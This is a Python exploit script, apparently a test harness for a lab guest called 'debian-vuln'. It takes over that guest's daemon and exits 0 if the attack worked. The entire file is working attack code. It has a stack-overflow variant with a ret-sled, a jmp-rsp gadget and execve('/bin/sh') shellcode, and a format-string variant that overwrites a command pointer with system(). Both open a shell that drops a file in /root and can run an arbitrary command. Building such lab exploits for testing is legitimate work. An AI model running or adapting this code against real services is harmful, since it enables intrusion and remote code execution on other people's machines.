"""Takes over the daemon of the `debian-vuln` guest: ``python attack.py HOST PORT [--variant stack|format]``.

An ordinary program with an ordinary TCP connection.  Like any attacker who has a copy of what runs over there, it
looks up addresses in the daemon's binary; the guest's address space is laid out at random, and neither way needs to
know where its stack is.

stack    `sign` copies a name over its return address.  The name carries

             sled      addresses of a `ret`, as many as reach the return address for certain
             turn      the address of a `jmp rsp`
             code      machine code that becomes a shell

         Each `ret` goes on to the next address, and the last one to the code, right behind it on the stack.

format   `show` prints a note with printf, as its format.  A first note prints the stack, in which the line that was
         typed is recognised; a second one writes, by way of addresses that such a line carries, the address of
         `system` over that of a command's function, byte by byte.  The command's argument then is for a shell.

The shell talks on the same connection.  It leaves a file on the disk, and what it then reads of it decides how this
program ends: with 0 if the attack worked, with 1 if not.
"""

from __future__ import annotations

import argparse
import os
import socket
import struct
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

BINARY = "guests/debian-vuln/daemon"
PROMPT = b"> "
NEWLINE = 0x0A

DROPPED = "/root/owned.txt"
MESSAGE = "a stranger was here"
FAREWELL = "left at 42"

SLED_LENGTH = 32
RET, JMP_RSP = b"\xc3", b"\xff\xe4"
# xor edx, edx; push rdx; mov rax, "/bin/sh"; push rax; mov rdi, rsp; push rdx; push rdi; mov rsi, rsp;
# push 59 (execve); pop rax; syscall
SHELLCODE = bytes.fromhex("31d2 52 48b8 2f62696e2f736800 50 4889e7 52 57 4889e6 6a3b 58 0f05")

ATTEMPT_SECONDS = 5
"""How long to wait for a greeting: whoever forwards a port may hold a connection that the guest never heard of."""

COMMANDS = ("uptime", "list", "post", "sign", "show")
"""Commands whose function may be replaced: by preference one that is of no other use."""

ENTRY_SIZE = 16
PROBED = range(6, 80)
"""Arguments of printf that lie on the stack: the first five behind the format are registers."""


class AttackError(Exception):
    """The attack did not work; the message says how far it came."""


@dataclass(frozen=True, slots=True)
class Segment:
    """What the program has at *address*; *is_code* if it can be executed."""

    address: int
    data: bytes
    is_code: bool


class Binary:
    """The daemon's program file, an ELF for amd64 (System V ABI, chapters 4 and 5)."""

    def __init__(self, data: bytes) -> None:
        if data[:5] != b"\x7fELF\x02":
            raise AttackError("the binary is not a 64-bit ELF file")
        self._data = data
        headers, sections, _, _, size, count, section_size, section_count = struct.unpack_from(
            "<QQIHHHHH", data, 32
        )
        self._segments = [
            Segment(address, data[offset : offset + length], bool(flags & 1))
            for kind, flags, offset, address, _, length in (
                struct.unpack_from("<IIQQQQ", data, headers + number * size) for number in range(count)
            )
            if kind == 1
        ]
        self._sections = [
            struct.unpack_from("<IIQQQQIIQQ", data, sections + number * section_size)
            for number in range(section_count)
        ]

    def symbol(self, name: str) -> int:
        """Return the address of the symbol *name*."""
        for _, kind, _, _, offset, size, link, *_ in self._sections:
            if kind != 2:
                continue
            names = self._sections[link][4]
            for at in range(offset, offset + size, 24):
                start, _, _, _, value, _ = struct.unpack_from("<IBBHQQ", self._data, at)
                if self._text(names + start) == name:
                    return int(value)
        raise AttackError(f"the binary has no symbol {name}")

    def command(self, position: int) -> str:
        """Return the name of the command at *position* in the daemon's table of commands."""
        (name,) = struct.unpack("<Q", self._read(self.symbol("commands") + position * ENTRY_SIZE, 8))
        return self._read(name, 16).split(b"\0")[0].decode("ascii", "replace")

    def gadget(self, code: bytes) -> bytes:
        """Return the address, as it is stored, of *code* somewhere in the program."""
        for segment in self._segments:
            at = segment.data.find(code) if segment.is_code else -1
            while at >= 0:
                address = struct.pack("<Q", segment.address + at)
                if NEWLINE not in address:
                    return address
                at = segment.data.find(code, at + 1)
        raise AttackError(f"the binary has no {code.hex()} where a line could lead to")

    def _read(self, address: int, size: int) -> bytes:
        for segment in self._segments:
            if 0 <= address - segment.address < len(segment.data):
                return segment.data[address - segment.address :][:size]
        raise AttackError(f"the binary has nothing at {address:#x}")

    def _text(self, offset: int) -> str:
        return self._data[offset : self._data.index(b"\0", offset)].decode("ascii", "replace")


class Visitor:
    """A connection to the daemon at *host* and *port*, which has *timeout* seconds to come up and answer."""

    def __init__(self, host: str, port: int, timeout: float) -> None:
        end = time.monotonic() + timeout
        while True:
            self._deadline = min(end, time.monotonic() + ATTEMPT_SECONDS)
            try:
                self._socket = socket.create_connection((host, port), self._left())
                # A first line at once: a passt of 2023 does not tell the guest that somebody is there before that.
                self.send(b"list")
                self.read_until(PROMPT)
                self.read_until(b"\n" + PROMPT)
                break
            except OSError as error:
                # A forwarded port accepts while the guest still boots, and hangs up.
                if time.monotonic() + 1 > end:
                    raise AttackError(f"nobody answers at {host}:{port}: {error}") from error
                time.sleep(0.2)
        self._deadline = end

    def send(self, line: bytes) -> None:
        """Send *line*, which must not have a newline in it, and a newline."""
        if NEWLINE in line:
            raise AttackError("a byte of the line would end it")
        self._socket.sendall(line + b"\n")

    def read_until(self, end: bytes) -> bytes:
        """Return what comes, up to and without *end*."""
        received = bytearray()
        while not received.endswith(end):
            self._socket.settimeout(self._left())
            byte = self._socket.recv(1)
            if not byte:
                raise ConnectionResetError(f"hung up after {bytes(received[-80:])!r}")
            received += byte
        return bytes(received[: -len(end)])

    def ask(self, line: bytes) -> bytes:
        """Send *line* and return the answer."""
        self.send(line)
        return self.read_until(b"\n" + PROMPT)

    def leave(self) -> None:
        """Hang up."""
        self._socket.close()

    def _left(self) -> float:
        return max(0.1, self._deadline - time.monotonic())


def overflow_stack(visitor: Visitor, binary: Binary) -> None:
    """Become a shell by way of `sign`."""
    name = binary.gadget(RET) * SLED_LENGTH + binary.gadget(JMP_RSP) + SHELLCODE
    visitor.send(b"sign " + name)


def misuse_format(visitor: Visitor, binary: Binary) -> None:
    """Become a shell by way of `show`."""
    place = find_line(visitor)
    target, command = replaceable(binary)
    addresses = [target + number for number in range(3)]
    # Both addresses lie below 16 MiB: the other bytes are zero already.
    wanted = struct.pack("<I", binary.symbol("system"))[:3]
    note, printed = b"", 0
    for number in sorted(range(3), key=lambda number: wanted[number]):
        more = wanted[number] - printed
        note += b"%%%dc" % more if more else b""
        note += b"%%%d$hhn" % (place + number)
        printed = wanted[number]
    number = pin(visitor, note)
    visitor.ask(showing(number) + b"".join(struct.pack("<Q", address) for address in addresses))
    visitor.send(command.encode() + b" sh")


def find_line(visitor: Visitor) -> int:
    """Return which argument of printf the bytes from the 17th of the line are that it was called by."""
    mark = b"RECOGNIS"
    number = pin(visitor, b" ".join(b"%%%d$lx" % place for place in PROBED))
    shown = visitor.ask(showing(number) + mark).split()
    value = b"%x" % int.from_bytes(mark, "little")
    if value not in shown:
        raise AttackError("the line is not on the stack where printf looks")
    return PROBED[shown.index(value)]


def pin(visitor: Visitor, note: bytes) -> int:
    """Pin *note* to the board and return its number."""
    answer = visitor.ask(b"post " + note)
    try:
        return int(answer.removeprefix(b"pinned as "))
    except ValueError:
        raise AttackError(f"the board does not take notes: {answer!r}") from None


def showing(number: int) -> bytes:
    """Return 16 bytes that have note *number* shown; what follows them is left alone, and aligned."""
    return (b"show %d " % number).ljust(16, b".")


def replaceable(binary: Binary) -> tuple[int, str]:
    """Return where the address of a command's function is, one that a line can carry, and the command's name."""
    table = {binary.command(position): position for position in range(len(COMMANDS))}
    for name in COMMANDS:
        address = binary.symbol("commands") + table.get(name, 0) * ENTRY_SIZE + ENTRY_SIZE // 2
        if name in table and all(NEWLINE not in struct.pack("<Q", address + number) for number in range(3)):
            return address, name
    raise AttackError("no command's function can be replaced")


def use_shell(visitor: Visitor, command: str | None) -> str:
    """Drop a file, run *command*, and leave; return what the shell printed.  Raises AttackError if it is not one."""
    drop = f"echo '{MESSAGE}' >{DROPPED}; sync"
    for line in filter(None, (drop, command, f"cat {DROPPED}", "echo left at $((6 * 7))", "exit")):
        visitor.send(line.encode())
    printed = visitor.read_until(FAREWELL.encode()).decode("utf-8", "replace")
    visitor.leave()
    if MESSAGE not in printed:
        raise AttackError(f"there is a shell, but no file: {printed!r}")
    return printed


VARIANTS: dict[str, Callable[[Visitor, Binary], None]] = {"stack": overflow_stack, "format": misuse_format}


def cached_binary() -> Path:
    """Return where revirt keeps the daemon of the guest that it built."""
    cache = os.environ.get("REVIRT_CACHE")
    base = os.environ.get("XDG_CACHE_HOME") or Path("~/.cache").expanduser()
    return (Path(cache) if cache else Path(base, "revirt")) / BINARY


def main(arguments: list[str]) -> int:
    """Attack as *arguments* say; return the exit status."""
    parser = argparse.ArgumentParser(description="Takes over the daemon of the guest debian-vuln.")
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument(
        "--variant", choices=VARIANTS, default="stack", help="the hole to use (default: stack)"
    )
    parser.add_argument("--command", help="what to have the shell do besides dropping a file")
    parser.add_argument("--binary", type=Path, help="the daemon (default: the one that revirt built)")
    parser.add_argument(
        "--timeout", type=float, default=120, metavar="SECONDS", help="give up after (default: 120)"
    )
    chosen = parser.parse_args(arguments)
    try:
        binary = Binary((chosen.binary or cached_binary()).read_bytes())
        visitor = Visitor(chosen.host, chosen.port, chosen.timeout)
        VARIANTS[chosen.variant](visitor, binary)
        print(use_shell(visitor, chosen.command).strip())
    except (AttackError, OSError) as error:
        print(f"attack: {error}", file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
